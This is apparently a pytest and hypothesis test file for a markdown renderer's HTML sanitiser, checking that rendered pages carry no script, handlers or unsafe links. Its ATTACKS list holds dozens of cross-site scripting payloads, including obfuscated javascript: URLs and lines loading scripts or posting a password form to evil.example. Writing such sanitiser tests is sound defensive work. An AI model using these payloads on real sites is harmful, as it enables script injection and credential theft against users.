"""Markup that came from a file is shown, never run."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kb.documents.markdown import parser
from kb.documents.markdown.blanks import SHOWN
from kb.documents.markdown.headings import RESERVED_ANCHORS
from kb.documents.markdown.rendering import Renderer
from kb.documents.markdown.sanitising import _ATTRIBUTES

RENDERER = Renderer()
SAFE_URLS = ("http://", "https://", "mailto:", "tel:", "#", "/found/")
PICTURE = re.compile(r"data:image/(?:png|jpeg|gif|webp);base64,[A-Za-z0-9+/=]+")
OURS = {"class", "id", "tabindex", "loading", "rel", "title", "lang"}
CLASSES = {
    "table-responsive",
    "img-fluid",
    "not-found",
    "bare",
    "task-list-item",
    "markdown-alert",
    "markdown-alert-title",
    "table",
    "text-center",
    "text-end",
}


class Inspector(HTMLParser):
    """Reads a page as a browser would and objects to all that could act."""

    def __init__(self) -> None:
        super().__init__()
        self.ids: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in SHOWN, tag
        for name, value in attrs:
            assert name in OURS or name in _ATTRIBUTES.get(tag, ()), (tag, name)
            if name in ("href", "src"):
                picture = tag == "img" and PICTURE.fullmatch(value or "")
                assert picture or (value or "").lower().startswith(SAFE_URLS), (tag, name, value)
            if name == "class":
                assert set((value or "").split()) <= CLASSES, value
            if name == "id":
                assert value not in RESERVED_ANCHORS, (tag, value)
                self.ids.append(value or "")

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"comment {data!r}")

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(f"declaration {decl!r}")


def inspected(body: str) -> str:
    page = RENDERER.render(body, "a/b.md", lambda path: f"/found/{path}" if "e" in path else None)
    made = "\n".join(
        [part.html for part in page.parts] + [m.html for part in page.parts for m in part.methods]
    )
    inspector = Inspector()
    inspector.feed(made)
    inspector.close()
    assert len(inspector.ids) == len(set(inspector.ids))
    return made


ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/pixel.gif'>",
    "<svg/onload=alert(1)><script>alert(1)</script></svg>",
    "<math><mtext></p><script>alert(1)</script></mtext></math>",
    "<iframe src=https://evil.example></iframe>",
    "<form action=https://evil.example><input name=password><button>Go</button></form>",
    "<style>body{display:none}</style>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVa\tScRiPt:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='/\\evil.example'>x</a>",
    "<a href='vbscript:x' onclick=alert(1)>x</a>",
    "<base href=https://evil.example><meta http-equiv=refresh content=0>",
    "<object data=x></object><embed src=x><applet code=x></applet>",
    "<div id=main class=modal onclick=x>x</div>",
    "<h2 id='search'>x</h2>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><select><option></select>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><!DOCTYPE html>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1) 'x')",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    '![x" onerror="alert(1)](e.png)',
    "![x](e.png 'x\" onerror=\"alert(1)')",
    "[x](e.md 'x\" onclick=\"alert(1)')",
    '[x](e.md#"onclick="alert(1))',
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "## <script>alert(1)</script> <img src=x onerror=y>",
    '## x {#"onclick="alert(1)}',
    '```"><script>alert(1)</script>\nx\n```',
    "| <script>alert(1)</script> |\n|---|\n| <img onerror=x> |",
    "1. <script>\n\nalert(1)</script>",
    "<table><tr><td><a href='javascript:x'>x</table>",
    "<a title='<table class=\"x\">' href='e'>x</a>",
    "<p title='</div><script>'>x</p>",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_is_shown_or_dropped_but_never_runs(attack: str) -> None:
    made = inspected(attack).lower()
    assert "<script" not in made
    assert "<style" not in made


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("around", ["## {}\n\nx", "> {}", "- {}\n\n  {}", "*{}*", "<div>{}</div>"])
def test_nor_does_it_within_other_markup(around: str, attack: str) -> None:
    inspected(around.replace("{}", attack))


fragments = st.sampled_from([*ATTACKS, "<", ">", '"', "'", "`", "\n", "\n\n", "[", "](", ")", "="])
markup = st.lists(fragments | st.text(max_size=6), max_size=8).map("".join)


@given(markup)
def test_no_mixture_of_attacks_runs(body: str) -> None:
    inspected(body)


@given(st.text(alphabet="<>/ab\"'= on:#&;![]()`*_|-\n\t", max_size=120))
def test_no_punctuation_makes_markup_of_its_own(body: str) -> None:
    inspected(body)


@given(st.text(max_size=200))
def test_any_text_makes_a_page_and_sections(body: str) -> None:
    inspected(body)
    RENDERER.sections(body)
    RENDERER.links(body)


def test_the_title_is_left_to_the_template_to_escape() -> None:
    page = RENDERER.render("# <b>x</b> & y", "a.md", lambda path: None, "other")
    assert page.parts[0].heading == "x & y"


def test_text_too_long_to_lay_out_is_escaped(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(parser, "MAX_EFFORT", 100)
    page = RENDERER.render("<script>alert(1)</script> and more", "a.md", lambda path: None)
    assert page.notice
    assert page.parts[0].html.startswith("<p>&lt;script&gt;")
